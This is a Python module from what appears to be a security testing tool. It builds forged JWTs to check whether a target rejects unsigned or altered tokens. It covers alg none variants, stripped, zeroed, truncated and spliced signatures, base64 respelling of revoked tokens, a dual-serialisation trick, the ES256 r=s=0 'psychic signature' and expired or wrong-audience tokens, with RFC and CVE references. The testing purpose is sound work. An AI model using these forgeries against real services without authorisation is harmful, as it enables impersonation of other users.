"""Forgeries without a key: the target must notice that nobody who has the key signed what it reads."""

from __future__ import annotations

from collections.abc import Callable

from netra_probe.forgery.attempt import SELF, Attempt, Material, token_attempt
from netra_probe.forgery.tokens import as_victim, b64, dumps, header_of, parts, unb64, unsigned, with_other_signature
from netra_probe.history.secret import Secret

_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_NONE = "RFC 8725 §3.1; RFC 7519 §6; CVE-2015-9235; OWASP WSTG-SESS-10; OWASP ASVS 5.0 9.1.2"
_CHECK = "RFC 8725 §3.3; OWASP WSTG-SESS-10; OWASP ASVS 5.0 9.1.1"


# -- the algorithm is taken from the token -------------------------------------------------------------------------


def _none(algorithm: object, ending: str = ".") -> Callable[[Material], Secret]:
    header: dict[str, object] = {"typ": "JWT"} if algorithm is ... else {"alg": algorithm, "typ": "JWT"}
    return lambda material: Secret(unsigned(header, as_victim(material)) + ending)


def _none_keeping_signature(material: Material) -> Secret:
    return Secret(f"{unsigned({'alg': 'none', 'typ': 'JWT'}, as_victim(material))}.{parts(material.token)[2]}")


def _two_algorithms(material: Material) -> Secret:
    return Secret(unsigned('{"alg":"HS256","alg":"none","typ":"JWT"}', as_victim(material)) + ".")


_ALGORITHM = (
    *(
        token_attempt(
            f"alg {shown}",
            "algorithm",
            f"the header says alg {shown}, the signature is empty, and the claims name the victim",
            _NONE,
            _none(value),
        )
        for shown, value in (("none", "none"), ("None", "None"), ("NONE", "NONE"), ("nOnE", "nOnE"))
    ),
    token_attempt("alg empty", "algorithm", "the header has an empty alg and nothing is signed", _NONE, _none("")),
    token_attempt("alg null", "algorithm", "the header has alg null and nothing is signed", _NONE, _none(None)),
    token_attempt("alg missing", "algorithm", "the header has no alg and nothing is signed", _NONE, _none(...)),
    token_attempt("alg none, two parts", "algorithm", "unsigned, and without the last dot", _NONE, _none("none", "")),
    token_attempt(
        "alg none, old signature",
        "algorithm",
        "alg none over the victim's claims, with the signature of the tester's own token",
        _NONE,
        _none_keeping_signature,
    ),
    token_attempt(
        "alg twice",
        "algorithm",
        "alg stands twice in the header, HS256 and then none: two parsers may read two algorithms",
        "RFC 8725 §2.6 and §3.1; RFC 7515 §4",
        _two_algorithms,
    ),
)


# -- the signature is not checked ----------------------------------------------------------------------------------


def _changed_claims(material: Material) -> Secret:
    header, _, signature = parts(material.token)
    return Secret(f"{header}.{b64(dumps(as_victim(material)))}.{signature}")


def _signature(change: Callable[[bytes], bytes]) -> Callable[[Material], Secret]:
    def make(material: Material) -> Secret:
        text = unsigned(header_of(material.token), as_victim(material))
        return Secret(f"{text}.{b64(change(unb64(parts(material.token)[2])))}")

    return make


def _spliced(material: Material) -> Secret:
    assert material.victim_token is not None
    header, payload, _ = parts(material.victim_token)
    return Secret(f"{header}.{payload}.{parts(material.token)[2]}")


def _same_prefix(material: Material) -> Secret:
    """All but the last characters of the victim's token: what a cache keyed by a prefix would take for it."""
    assert material.victim_token is not None
    return with_other_signature(material.victim_token, slice(-12, None))


def _respelled(material: Material) -> Secret:
    """The same bytes in another spelling: base64 leaves unused bits in the last character of a 32 byte signature."""
    token = material.revoked
    assert token is not None
    header, payload, signature = parts(token)
    last = _ALPHABET.index(signature[-1])
    spare = {2: 16, 3: 4}.get(len(signature) % 4, 1)
    return Secret(f"{header}.{payload}.{signature[:-1]}{_ALPHABET[last - last % spare + (last + 1) % spare]}")


def _json_serialisation(material: Material) -> Secret:
    """Both serialisations at once: the signature fits the part that is verified, the other part is believed."""
    header, payload, signature = parts(material.token)
    forged = b64(dumps(as_victim(material)))
    inner = dumps({"protected": header, "payload": payload, "signature": signature})
    return Secret(f'{{"  {header}.{forged}.":"",{inner[1:]}')


_SIGNATURE = (
    token_attempt(
        "claims changed",
        "signature",
        "the tester's own token with the victim's id in it and the signature left as it was",
        _CHECK,
        _changed_claims,
    ),
    token_attempt(
        "signature stripped",
        "signature",
        "the header still says HS256, and the signature is empty",
        f"CVE-2020-28042; {_CHECK}",
        _signature(lambda _: b""),
    ),
    token_attempt(
        "signature of zeros",
        "signature",
        "a signature of the right length that is all zeros",
        _CHECK,
        _signature(lambda given: bytes(len(given))),
    ),
    token_attempt(
        "signature truncated",
        "signature",
        "the first byte of a signature only: a comparison over the shorter of two stops there",
        f"CVE-2020-28042; {_CHECK}",
        _signature(lambda given: given[:1]),
    ),
    token_attempt(
        "signature of another token",
        "signature",
        "header and claims of the victim's token with the signature of the tester's",
        _CHECK,
        _spliced,
        "victim_token",
    ),
    token_attempt(
        "same beginning",
        "signature",
        "the victim's token with other last characters: a cache keyed by a prefix of the token answers for the victim",
        "RFC 8725 §3.3; CWE-639; OWASP ASVS 5.0 9.1.1",
        _same_prefix,
        "victim_token",
    ),
    token_attempt(
        "revoked, respelled",
        "signature",
        "a revoked token with other unused bits in its last character: the same token, another text for a deny list",
        "RFC 4648 §3.5; OWASP ASVS 5.0 7.4.1",
        _respelled,
        "revoked",
    ),
    token_attempt(
        "two serialisations",
        "signature",
        "a JSON serialisation that also reads as a compact one: one part is verified and another believed",
        "CVE-2022-39227; RFC 8725 §2.6; RFC 7519 §7.2",
        _json_serialisation,
    ),
    token_attempt(
        "psychic signature",
        "signature",
        "ES256 with r = s = 0, which some verifiers find valid for every message",
        "CVE-2022-21449; RFC 8725 §3.4",
        lambda material: Secret(f"{unsigned({'alg': 'ES256', 'typ': 'JWT'}, as_victim(material))}.{b64(bytes(64))}"),
    ),
)


_VALID = (
    token_attempt(
        "expired token",
        "time",
        "a token of the tester's own that was valid once and is past its exp",
        "RFC 7519 §4.1.4; OWASP ASVS 5.0 9.2.1",
        lambda material: material.expired or material.token,
        "expired",
    ),
    token_attempt(
        "revoked token",
        "time",
        "a token of the tester's own after logout",
        "OWASP WSTG-SESS-06; OWASP ASVS 5.0 7.4.1",
        lambda material: material.revoked or material.token,
        "revoked",
    ),
    token_attempt(
        "refresh token as access token",
        "audience",
        "a valid refresh token where an access token belongs",
        "RFC 8725 §3.11 and §3.12; OWASP ASVS 5.0 9.2.2",
        lambda material: material.refresh or material.token,
        "refresh",
    ),
    token_attempt(
        "service token as access token",
        "audience",
        "a valid token of a service where a user's belongs",
        "RFC 8725 §3.9 and §3.12; OWASP ASVS 5.0 9.2.2",
        lambda material: material.service or material.token,
        "service",
    ),
    token_attempt(
        "own token again",
        "signature",
        "the tester's own valid token, right after the forgeries: nothing of them may stick",
        "RFC 8725 §3.3",
        lambda material: material.token,
        expect=SELF,
    ),
)

SIGNATURE_ATTEMPTS: tuple[Attempt, ...] = (*_ALGORITHM, *_SIGNATURE, *_VALID)
